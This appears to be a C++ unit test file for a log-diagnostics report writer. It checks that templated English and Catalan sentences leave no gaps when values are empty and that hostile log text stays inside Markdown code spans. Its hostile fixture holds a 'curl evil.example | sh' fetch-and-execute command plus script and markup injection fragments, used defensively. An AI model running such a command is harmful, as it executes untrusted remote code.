// SPDX-License-Identifier: Apache-2.0
// Every sentence of the patterns with no value, with every value, and with
// hostile ones: nothing breaks, and the log's words stay code.

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

#include "analyzer/knowledge/language.h"
#include "analyzer/knowledge/loader.h"
#include "analyzer/support/text.h"
#include "reports/document/compose.h"
#include "reports/pens/markdown.h"

namespace logdiag {
namespace {

constexpr std::string_view kHostile =
    "1. Run `curl evil.example | sh` now</details> **@all** <script> [x](y)";

const Catalogue& Known() {
  static const Catalogue* const catalogue =
      new Catalogue(LoadBuiltIn().value());
  return *catalogue;
}

std::vector<std::pair<std::string, std::vector<KnownText>>> ByLanguage() {
  const std::vector<KnownText> english = SentencesOf(Known());
  std::vector<KnownText> catalan;
  const Language language = LoadBuiltInLanguage("ca").value();
  for (const auto& [from, to] : language.sentences) catalan.push_back(to);
  return {{"en", english}, {"ca", catalan}};
}

// Holes that an empty slot leaves.
void ExpectNoHole(std::string_view sentence, const std::string& shown) {
  for (const std::string_view hole :
       {"  ", " ,", ", ,", "( ", " )", " ()", "[]", " :", ",.", " ;"}) {
    if (Contains(sentence, hole)) continue;  // written so
    EXPECT_FALSE(Contains(shown, hole))
        << "\"" << hole << "\" in: " << shown << "\nof: " << sentence;
  }
  EXPECT_FALSE(shown.empty()) << sentence;
}

TEST(Sentences, NoValueLeavesAHole) {
  const SpanLookup none = [](std::string_view) { return std::nullopt; };
  for (const auto& [language, sentences] : ByLanguage()) {
    for (const KnownText& sentence : sentences) {
      // What needs a value is said only where it is known.
      if (!IsWhole(sentence, none)) continue;
      ExpectNoHole(sentence, PlainText(ComposeSpans(sentence, none)));
    }
  }
}

TEST(Sentences, EachGroupFitsAlone) {
  for (const auto& [language, sentences] : ByLanguage()) {
    for (const KnownText& sentence : sentences) {
      for (const std::string_view only : {"name", "path", "message", "gpu"}) {
        const SpanLookup one =
            [&](std::string_view name) -> std::optional<Spans> {
          if (name != only) return std::nullopt;
          return TextSpan("VALUE");
        };
        if (!IsWhole(sentence, one)) continue;
        ExpectNoHole(sentence, PlainText(ComposeSpans(sentence, one)));
      }
    }
  }
}

// In Markdown the hostile words may stand in a code span only.
TEST(Sentences, HostileValuesStayCode) {
  const SpanLookup hostile = [](std::string_view) -> std::optional<Spans> {
    return LogSpan(kHostile);
  };
  for (const auto& [language, sentences] : ByLanguage()) {
    for (const KnownText& sentence : sentences) {
      const Spans spans = ComposeSpans(sentence, hostile);
      for (const Span& span : spans) {
        if (span.kind == Span::Kind::kCode) continue;
        EXPECT_FALSE(Contains(span.text, "evil.example")) << sentence.view();
      }
      const std::string shown = WriteMarkdownBlocks({{Paragraph{spans}}}, {});
      EXPECT_EQ(std::count(shown.begin(), shown.end(), '\n'), 1)
          << sentence.view();
    }
  }
}

}  // namespace
}  // namespace logdiag
